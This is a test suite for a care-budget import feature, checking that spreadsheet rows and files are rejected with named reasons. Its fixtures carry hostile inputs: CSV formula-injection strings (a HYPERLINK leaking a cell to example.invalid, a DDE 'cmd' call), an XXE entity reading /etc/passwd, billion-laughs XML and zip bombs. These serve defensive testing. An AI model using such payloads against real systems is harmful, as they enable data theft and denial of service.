/**
 * Hostile rows and files: each refused row is named by its row and column with the reason,
 * the good rows beside it still go on, and a file that cannot be read is refused whole
 * with a reason, never a crash. Rows are written in the service-agreement layout.
 */
import { strToU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { importPackages } from '../../../src/domain/import/import-packages';
import type { ImportProfile } from '../../../src/domain/import/profile';
import type { Table } from '../../../src/domain/import/table';
import { readCsv } from '../../../src/io/import/csv-table';
import { SERVICE_AGREEMENT_COLUMNS } from '../../../src/io/exports/service-agreement-csv';
import { shippedProfiles } from '../../../src/io/import/profile-file';
import { readWorkbook } from '../../../src/io/import/xlsx-table';
import { loadCard } from '../../helpers/builders';
import { makeXlsx, workbookParts, zipParts } from '../../helpers/xlsx';

const england = loadCard('rate-cards/england-2025-26.json');
const agreement = shippedProfiles().get('service-agreement') as ImportProfile;
const chc = shippedProfiles().get('chc-package') as ImportProfile;
const pa = shippedProfiles().get('pa-weekly-hours') as ImportProfile;
const CHC_NAMES = [
  'NHS number',
  'Patient',
  'Package line',
  'Care type',
  'Delivered by',
  'Agency or carer',
  'Duration (minutes)',
  'Calls per day',
  'Days',
  'Shift',
  'Rate type',
  'Package start',
  'Package end',
  'Agreed rate',
];
const PA_NAMES = [
  'Ref',
  'Name',
  'Package',
  'Activity',
  'Area of life',
  'Type',
  'PA or carer',
  'Hours per week',
  'Days',
  'From',
  'Until',
  'PA hourly cost',
];
// The service-agreement layout, as the export writes it.
const HEADER: string[] = [...SERVICE_AGREEMENT_COLUMNS];
const GOOD = [
  'G-1',
  'Plan',
  '',
  'personal-care',
  'Wash and dress',
  'registered-provider',
  '',
  '45',
  '1',
  'Mon Tue',
  'day',
  '2026-04-01',
  '',
  '',
  '',
  '',
  '',
  '',
  '1',
];
const BASE = ['H-1', ...GOOD.slice(1)];

function withCell(column: string, value: string, base = BASE): string[] {
  const row = [...base];
  row[HEADER.indexOf(column)] = value;
  return row;
}

function run(
  rows: readonly (readonly string[])[],
  profile = agreement,
): ReturnType<typeof importPackages> {
  return importPackages({ name: 'test.csv', rows: [HEADER, ...rows] }, profile, england);
}

type Case = readonly [column: string, value: string, key: string];

const FORMULAS: Case[] = [
  ['Support', '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', 'importing.cell.formula'],
  ['Support', "+cmd|' /C calc'!A0", 'importing.cell.formula'],
  ['Support', '-2+3+cmd', 'importing.cell.formula'],
  ['Support', '@SUM(A1:A9)', 'importing.cell.formula'],
  ['Support', '\t=1+1', 'importing.cell.formula'],
  ['Support', '\r=1+1', 'importing.cell.formula'],
  ['Person reference', '=cmd', 'importing.cell.formula'],
  ['Budget name', '=1', 'importing.cell.formula'],
  ['Line id', '=l1', 'importing.cell.formula'],
  ['Area of life', '=A2', 'importing.cell.formula'],
  ['Who gives it', '=B2', 'importing.cell.formula'],
  ['Provider', '=x', 'importing.cell.formula'],
  ['Minutes per visit', '=45', 'importing.cell.formula'],
  ['Minutes per visit', '+45', 'importing.cell.formula'],
  ['Visits per day', '=1', 'importing.cell.formula'],
  ['Days', '=A1', 'importing.cell.formula'],
  ['Time of day', '=day', 'importing.cell.formula'],
  ['From', '=TODAY()', 'importing.cell.formula'],
  ['Until', '+2026-05-01', 'importing.cell.formula'],
  ['Every N weeks', '=2', 'importing.cell.formula'],
  ['Weeks a year', '+4', 'importing.cell.formula'],
  ['Hourly rate', '=33.75', 'importing.cell.formula'],
  ['Weekly hours', '@1', 'importing.cell.formula'],
  ['Weekly cost', '=1', 'importing.cell.formula'],
];

const NUMBERS: Case[] = [
  ['Minutes per visit', '0', 'importing.cell.whole'],
  ['Minutes per visit', '1441', 'importing.cell.whole'],
  ['Minutes per visit', '45.5', 'importing.cell.whole'],
  ['Minutes per visit', '-45', 'importing.cell.whole'],
  ['Minutes per visit', 'forty-five', 'importing.cell.whole'],
  ['Minutes per visit', '1e3', 'importing.cell.whole'],
  ['Minutes per visit', '４５', 'importing.cell.whole'],
  ['Minutes per visit', '45 mins', 'importing.cell.whole'],
  ['Minutes per visit', 'NaN', 'importing.cell.whole'],
  ['Minutes per visit', 'Infinity', 'importing.cell.whole'],
  ['Minutes per visit', '999999999999', 'importing.cell.whole'],
  ['Minutes per visit', '0x2D', 'importing.cell.whole'],
  ['Minutes per visit', '', 'importing.cell.howLong'],
  ['Visits per day', '0', 'importing.cell.whole'],
  ['Visits per day', '49', 'importing.cell.whole'],
  ['Visits per day', '1.5', 'importing.cell.whole'],
  ['Visits per day', 'two', 'importing.cell.whole'],
  ['Every N weeks', '1', 'importing.cell.whole'],
  ['Every N weeks', '53', 'importing.cell.whole'],
  ['Every N weeks', '2.5', 'importing.cell.whole'],
  ['Weeks a year', '0', 'importing.cell.whole'],
  ['Weeks a year', '53', 'importing.cell.whole'],
  ['Hourly rate', 'abc', 'importing.cell.decimal'],
  ['Hourly rate', '-1.00', 'importing.cell.decimal'],
  ['Hourly rate', '1,000,000.00', 'importing.cell.decimal'],
  ['Hourly rate', '33.7.5', 'importing.cell.decimal'],
  ['Weekly cost', '12,34', 'importing.cell.decimal'],
  ['Weekly cost', '£-5', 'importing.cell.decimal'],
  ['Weekly hours', '-1', 'importing.cell.decimal'],
  ['Weekly hours', '169', 'importing.cell.decimal'],
];

const DAYS: Case[] = [
  ['Days', '', 'importing.cell.required'],
  ['Days', 'Funday', 'importing.cell.days'],
  ['Days', 'Mon Mon', 'importing.cell.repeatedDay'],
  ['Days', 'Mon-Fri Wed', 'importing.cell.repeatedDay'],
  ['Days', 'Fri-Mon', 'importing.cell.days'],
  ['Days', 'Mon-Tue-Wed', 'importing.cell.days'],
  ['Days', '7', 'importing.cell.days'],
  ['Days', 'Mo Di Mi', 'importing.cell.days'],
];

const DATES: Case[] = [
  ['From', '01/04/2026', 'importing.cell.date'],
  ['From', '1 Apr 2026', 'importing.cell.date'],
  ['From', '04/01/2026', 'importing.cell.date'],
  ['From', '46113', 'importing.cell.date'],
  ['From', '2026-02-30', 'importing.cell.noSuchDay'],
  ['From', '2026-13-01', 'importing.cell.noSuchDay'],
  ['From', '26-04-01', 'importing.cell.date'],
  ['From', '2026/04/01', 'importing.cell.date'],
  ['From', '2026-4-1', 'importing.cell.date'],
  ['From', 'tomorrow', 'importing.cell.date'],
  ['Until', '2026-03-01', 'validation.untilBeforeFrom'],
  ['Until', '2026-04-31', 'importing.cell.noSuchDay'],
];

const WORDS: Case[] = [
  ['Time of day', 'evening', 'importing.cell.period'],
  ['Time of day', 'overnight', 'importing.cell.period'],
  ['Who gives it', 'robot', 'importing.cell.resource'],
  ['Who gives it', '', 'importing.cell.required'],
  ['Area of life', 'gardening', 'importing.cell.domain'],
  ['Area of life', '', 'importing.cell.required'],
  ['Provider', 'Nobody Care Ltd', 'importing.cell.provider'],
  ['Person reference', '', 'importing.cell.required'],
  ['Person reference', 'x'.repeat(101), 'importing.cell.tooLong'],
  ['Support', '', 'importing.cell.required'],
  ['Support', 'y'.repeat(201), 'importing.cell.tooLong'],
  ['Support', 'Wash\u0000and dress', 'validation.oneLineText'],
  ['Support', '\u202Eesserd dna hsaW', 'validation.oneLineText'],
  ['Line id', 'bad id!', 'validation.id'],
  ['Budget name', 'Plan\u0007', 'validation.oneLineText'],
  ['Budget name', 'z'.repeat(201), 'importing.cell.tooLong'],
];

describe('a hostile cell refuses its row, naming the row and the column, and the good row goes on', () => {
  it.each([...FORMULAS, ...NUMBERS, ...DAYS, ...DATES, ...WORDS])(
    '%s = %j: %s',
    (column, value, key) => {
      const result = run([GOOD, withCell(column, value)]);
      expect(result.budgets.map((budget) => budget.person.reference)).toEqual(['G-1']);
      expect(result.rejected.length).toBeGreaterThan(0);
      expect(result.rejected.every((found) => found.row === 3)).toBe(true);
      expect(result.rejected).toContainEqual(expect.objectContaining({ row: 3, column, key }));
    },
  );
});

describe('rows that break the rules across fields', () => {
  it('a visit of 720 minutes three times a day is more than a day: refused at its visits, as the budget rule names it', () => {
    const result = run([
      GOOD,
      withCell('Visits per day', '3', withCell('Minutes per visit', '720')),
    ]);
    expect(result.rejected).toEqual([
      expect.objectContaining({ row: 3, column: 'Visits per day', key: 'validation.overADay' }),
    ]);
  });

  it('a line every 2 weeks and 4 weeks a year is refused at the second', () => {
    const result = run([withCell('Weeks a year', '4', withCell('Every N weeks', '2'))]);
    expect(result.rejected).toEqual([
      expect.objectContaining({
        row: 2,
        column: 'Weeks a year',
        key: 'importing.cell.oneFrequency',
      }),
    ]);
  });

  it('the same line id twice for one person refuses the second row only', () => {
    const result = run([
      withCell('Line id', 'l1'),
      withCell('Line id', 'l1', withCell('Support', 'Tea')),
    ]);
    expect(result.budgets[0]?.lines.map((line) => line.activity)).toEqual(['Wash and dress']);
    expect(result.rejected).toEqual([expect.objectContaining({ row: 3, column: 'Line id' })]);
  });

  it('an unpaid carer with no name is refused at the provider column', () => {
    const result = run([withCell('Who gives it', 'unpaid-carer')]);
    expect(result.rejected).toEqual([
      expect.objectContaining({ row: 2, column: 'Provider', key: 'importing.cell.carerName' }),
    ]);
  });

  it('a carer over 168 hours a week refuses the rows that take them over, not the person', () => {
    const carer = (minutes: string, support: string) =>
      withCell(
        'Support',
        support,
        withCell(
          'Days',
          'Daily',
          withCell(
            'Minutes per visit',
            minutes,
            withCell('Provider', 'Mo', withCell('Who gives it', 'unpaid-carer')),
          ),
        ),
      );
    const result = run([carer('1440', 'All day'), carer('60', 'One more hour')]);
    expect(result.rejected.length).toBeGreaterThan(0);
    expect(
      result.rejected.every(
        (found) => found.key.startsWith('validation.') || found.key.startsWith('importing.'),
      ),
    ).toBe(true);
  });

  it('a weekday rate with weekend days says the two disagree', () => {
    const header = ['x', ...Array(13).fill('')];
    const names = CHC_NAMES;
    const row = [
      '1',
      'P',
      'Call',
      'Personal care',
      'Agency',
      '',
      '45',
      '1',
      'Sat',
      'Day',
      'Weekday',
      '1 Apr 2026',
      '',
      '',
    ];
    const result = importPackages({ name: 'chc.csv', rows: [header, names, row] }, chc, england);
    expect(result.rejected).toEqual([
      expect.objectContaining({
        row: 3,
        column: 'Rate type',
        key: 'importing.cell.rateDaysDisagree',
      }),
    ]);
  });

  it('weekly hours that do not share into whole minutes are refused, not rounded', () => {
    const names = PA_NAMES;
    const row = ['P', 'N', 'Pk', 'Help', 'Personal care', 'PA', 'Sam', '1', 'Daily', '', '', ''];
    const result = importPackages({ name: 'pa.csv', rows: [names, row] }, pa, england);
    expect(result.rejected).toEqual([
      expect.objectContaining({
        row: 2,
        column: 'Hours per week',
        key: 'importing.cell.spreadMinutes',
      }),
    ]);
  });
});

describe('dates written three ways and as Excel serial numbers, where the profile allows them', () => {
  const paFrom = (written: string) =>
    importPackages(
      {
        name: 'pa.csv',
        rows: [
          PA_NAMES,
          ['P', 'N', 'Pk', 'Help', 'Personal care', 'PA', 'Sam', '5', 'Mon-Fri', written, '', ''],
        ],
      },
      pa,
      england,
    );
  it.each([
    ['2026-04-01', '2026-04-01'],
    ['01/04/2026', '2026-04-01'],
    ['1.4.2026', '2026-04-01'],
    ['46113', '2026-04-01'],
    ['46112.0', '2026-03-31'],
    ['45717', '2025-03-01'],
  ])('%s is %s', (written, iso) => {
    const result = paFrom(written);
    expect(result.rejected).toEqual([]);
    expect(result.budgets[0]?.lines[0]?.from).toBe(iso);
  });

  it.each(['60', '1', '2958465', '46113.5'])(
    'a serial number outside 1990–2099 or with a time of day (%s) is refused',
    (written) => {
      const result = paFrom(written);
      expect(result.rejected).toEqual([
        expect.objectContaining({ row: 2, column: 'From', key: 'importing.cell.date' }),
      ]);
    },
  );

  it('the CHC layout reads 1 Apr 2026, 01-Apr-2026 and 1 April 2026 alike', () => {
    const names = CHC_NAMES;
    const rows = ['1 Apr 2026', '01-Apr-2026', '1 April 2026'].map((date, index) => [
      `${index}`,
      'P',
      'Call',
      'Personal care',
      'Agency',
      '',
      '45',
      '1',
      'Mon',
      'Day',
      '',
      date,
      '',
      '',
    ]);
    const result = importPackages(
      { name: 'chc.csv', rows: [['title'], names, ...rows] },
      chc,
      england,
    );
    expect(result.budgets.map((budget) => budget.lines[0]?.from)).toEqual([
      '2026-04-01',
      '2026-04-01',
      '2026-04-01',
    ]);
  });
});

describe('hostile files are refused whole, with the reason', () => {
  const refusedWith = (table: Table, key: string) => {
    const result = importPackages(table, agreement, england);
    expect(result.budgets).toEqual([]);
    expect(result.rejected).toContainEqual(expect.objectContaining({ key }));
  };

  it('a header without a column the profile names', () => {
    refusedWith(
      { name: 'x', rows: [HEADER.map((name) => (name === 'Days' ? 'Weekdays' : name)), GOOD] },
      'importing.file.noColumn',
    );
  });

  it('a header naming a column twice (a merged header copied across)', () => {
    refusedWith({ name: 'x', rows: [[...HEADER, 'Days'], GOOD] }, 'importing.file.repeatedColumn');
  });

  it('a merged title above the header, where the profile expects the header in row 1', () => {
    refusedWith(
      { name: 'x', rows: [['Packages of care 2026', ...Array(17).fill('')], HEADER, GOOD] },
      'importing.file.noColumn',
    );
  });

  it('an empty file', () => {
    refusedWith({ name: 'x', rows: [] }, 'importing.file.noHeaderRow');
  });

  it('50,000 rows', () => {
    const rows = Array.from({ length: 50_000 }, (_, index) =>
      withCell('Person reference', `P-${index}`, GOOD),
    );
    const csv = strToU8([HEADER, ...rows].map((row) => row.join(',')).join('\n'));
    const read = readCsv(csv, 'big.csv');
    expect(read.ok).toBe(true);
    if (read.ok) refusedWith(read.table, 'importing.file.tooManyRows');
  });

  it('201 columns', () => {
    refusedWith(
      {
        name: 'x',
        rows: [[...HEADER, ...Array.from({ length: 183 }, (_, index) => `Extra ${index}`)], GOOD],
      },
      'importing.file.tooManyColumns',
    );
  });

  it('a profile for another rate card', () => {
    const wales = loadCard('rate-cards/wales-2025-26.json');
    const result = importPackages({ name: 'x', rows: [HEADER, GOOD] }, agreement, wales);
    expect(result.rejected).toEqual([
      expect.objectContaining({ row: 0, key: 'importing.file.cardMismatch' }),
    ]);
  });
});

describe('hostile CSV bytes', () => {
  it.each([
    [
      'a quotation mark never closed',
      strToU8(`${HEADER.join(',')}\nG-1,"Plan,,`),
      'importing.file.csvQuotes',
    ],
    [
      'Latin-1 bytes',
      new Uint8Array([...strToU8('Person reference\n'), 0xa3, 0x31, 0x30]),
      'validation.notUnicode',
    ],
    [
      'UTF-16 with its byte-order mark',
      new Uint8Array([0xff, 0xfe, 0x50, 0x00]),
      'validation.encoding',
    ],
  ])('%s', (_name, bytes, key) => {
    const read = readCsv(bytes, 'x.csv');
    expect(read).toMatchObject({ ok: false, key });
  });

  it('more than 20 MB', () => {
    expect(readCsv(new Uint8Array(20_000_001), 'x.csv')).toMatchObject({
      ok: false,
      key: 'importing.file.tooLarge',
    });
  });
});

describe('hostile workbooks', () => {
  const good = () => workbookParts([{ name: 'Packages', rows: [HEADER, GOOD] }]);

  it('reads a good workbook as a table', () => {
    // The row without its workers: its last cells are left empty.
    const row = [...GOOD.slice(0, -1), ''];
    const read = readWorkbook(makeXlsx([{ name: 'Packages', rows: [HEADER, row] }]));
    // Cells after the last one written are not there at all; gaps before it are empty text.
    expect(read).toEqual({
      ok: true,
      sheets: [{ name: 'Packages', rows: [HEADER, GOOD.slice(0, 12)] }],
    });
  });

  it.each([
    [
      'random bytes',
      new Uint8Array(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 251)),
      'importing.file.notZip',
    ],
    ['a CSV named .xlsx', strToU8(`${HEADER.join(',')}\n`), 'importing.file.notZip'],
    ['an empty file', new Uint8Array(0), 'importing.file.notZip'],
    [
      'an old .xls workbook',
      new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]),
      'importing.file.oldExcel',
    ],
    ['a zip cut short', zipParts(good()).subarray(0, 300), 'importing.file.notZip'],
    [
      'a zip of other things',
      zipParts({ 'readme.txt': strToU8('hello') }),
      'importing.file.notWorkbook',
    ],
    ['over 20 MB', new Uint8Array(20_000_001), 'importing.file.tooLarge'],
  ])('%s', (_name, bytes, key) => {
    expect(readWorkbook(bytes)).toMatchObject({ ok: false, key });
  });

  /** A pseudo-random part that does not compress: big by size, not by ratio. */
  const noise = (length: number) => {
    const bytes = new Uint8Array(length);
    let seed = 1;
    for (let index = 0; index < length; index += 4096) {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      bytes[index] = seed % 256;
    }
    return bytes;
  };
  const manyEntries = (parts: Record<string, Uint8Array>) => {
    for (let index = 0; index < 1_001; index++)
      parts[`xl/media/image${index}.png`] = new Uint8Array(1);
  };

  it.each([
    [
      'a zip bomb: a sheet that inflates to 200 times its size and more',
      'xl/worksheets/sheet1.xml',
      new Uint8Array(30_000_000),
      'importing.file.zipBomb',
    ],
    [
      'a zip bomb by size: a part larger than any sheet, whatever its ratio',
      'xl/worksheets/sheet1.xml',
      noise(65_000_000),
      'importing.file.zipBomb',
    ],
    [
      'an entity declaration (billion laughs), refused before any entity is expanded',
      'xl/sharedStrings.xml',
      strToU8(
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><sst><si><t>&lol2;</t></si></sst>',
      ),
      'importing.file.badXml',
    ],
    [
      'an external entity',
      'xl/worksheets/sheet1.xml',
      strToU8(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>',
      ),
      'importing.file.badXml',
    ],
    ['more than 1,000 entries', null, manyEntries, 'importing.file.tooManyEntries'],
  ] as const)('%s', (_name, part, content, key) => {
    const parts: Record<string, Uint8Array> = good();
    if (part === null) content(parts);
    else parts[part] = content;
    expect(readWorkbook(zipParts(parts))).toMatchObject({ ok: false, key });
  });

  it('a part whose header understates its size is inflated only as far as it says', () => {
    const parts = good();
    parts['xl/worksheets/sheet1.xml'] = strToU8(
      `<worksheet><sheetData>${'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'.repeat(200_000)}</sheetData></worksheet>`,
    );
    const zip = zipParts(parts);
    const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
    for (let at = 0; at < zip.length - 30; at++) {
      if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 2000, true);
    }
    const read = readWorkbook(zip);
    if (read.ok) expect(read.sheets[0]?.rows.length).toBeLessThan(40);
    else expect(read.key).toMatch(/^importing\.file\./);
  });

  it('a sheet the profile names that the workbook does not hold', () => {
    expect(readWorkbook(zipParts(good()), 'Rates')).toMatchObject({
      ok: false,
      key: 'importing.file.noSheet',
    });
  });

  it('a cell far to the right makes the row too wide, and the table is refused', () => {
    const parts = good();
    parts['xl/worksheets/sheet1.xml'] = strToU8(
      '<worksheet><sheetData><row r="1"><c r="XFD1"><v>1</v></c></row></sheetData></worksheet>',
    );
    const read = readWorkbook(zipParts(parts));
    expect(read.ok).toBe(true);
    if (read.ok)
      expect(importPackages(read.sheets[0] as Table, agreement, england).rejected).toContainEqual(
        expect.objectContaining({ key: 'importing.file.tooManyColumns' }),
      );
  });

  it('a row numbered a million stops the reading at the row limit', () => {
    const parts = good();
    parts['xl/worksheets/sheet1.xml'] = strToU8(
      '<worksheet><sheetData><row r="1000000"><c r="A1000000"><v>1</v></c></row></sheetData></worksheet>',
    );
    const read = readWorkbook(zipParts(parts));
    expect(read.ok).toBe(true);
    if (read.ok)
      expect(importPackages(read.sheets[0] as Table, agreement, england).rejected).toContainEqual(
        expect.objectContaining({ key: 'importing.file.tooManyRows' }),
      );
  });

  it('formula cells and error values come out as formulas, and their rows are refused', () => {
    const bytes = makeXlsx([
      {
        name: 'Packages',
        rows: [
          HEADER,
          GOOD,
          withCell('Person reference', 'F-1').map((cell, index) =>
            index === 4 ? { formula: 'HYPERLINK("http://example.invalid","x")' } : cell,
          ),
          withCell('Person reference', 'F-2').map((cell, index) =>
            index === 7 ? { error: '#REF!' } : cell,
          ),
        ],
      },
    ]);
    const read = readWorkbook(bytes);
    if (!read.ok) throw new Error(read.key);
    const result = importPackages(read.sheets[0] as Table, agreement, england);
    expect(result.budgets.map((budget) => budget.person.reference)).toEqual(['G-1']);
    expect(result.rejected).toEqual([
      expect.objectContaining({ row: 3, column: 'Support', key: 'importing.cell.formula' }),
      expect.objectContaining({
        row: 4,
        column: 'Minutes per visit',
        key: 'importing.cell.formula',
      }),
    ]);
  });

  it('a merged header across two rows: the group title is skipped when the profile names row 2', () => {
    const names = CHC_NAMES;
    const row = [
      '1',
      'P',
      'Call',
      'Personal care',
      'Agency',
      '',
      45,
      1,
      'Mon',
      'Day',
      '',
      { inline: '1 Apr 2026' },
      '',
      '',
    ];
    const bytes = makeXlsx([
      { name: 'Export', rows: [['CHC packages'], names, row], merges: ['A1:N1'] },
    ]);
    const read = readWorkbook(bytes);
    if (!read.ok) throw new Error(read.key);
    const result = importPackages(read.sheets[0] as Table, chc, england);
    expect(result.rejected).toEqual([]);
    expect(result.budgets[0]?.lines[0]).toMatchObject({ minutes: 45, from: '2026-04-01' });
  });
});

describe('ten thousand rows', () => {
  it('become their budgets, with progress reported along the way and at the end', () => {
    const rows = Array.from({ length: 10_000 }, (_, index) =>
      withCell(
        'Person reference',
        `P-${Math.floor(index / 5)}`,
        withCell('Support', `Visit ${index}`, GOOD),
      ),
    );
    const progress: number[] = [];
    const result = importPackages({ name: 'x', rows: [HEADER, ...rows] }, agreement, england, {
      onProgress: (done) => progress.push(done),
    });
    expect(result.rejected).toEqual([]);
    expect(result.budgets).toHaveLength(2_000);
    expect(result.lines).toHaveLength(10_000);
    expect(progress.at(-1)).toBe(10_000);
    expect(progress.length).toBeGreaterThan(10);
  });
});
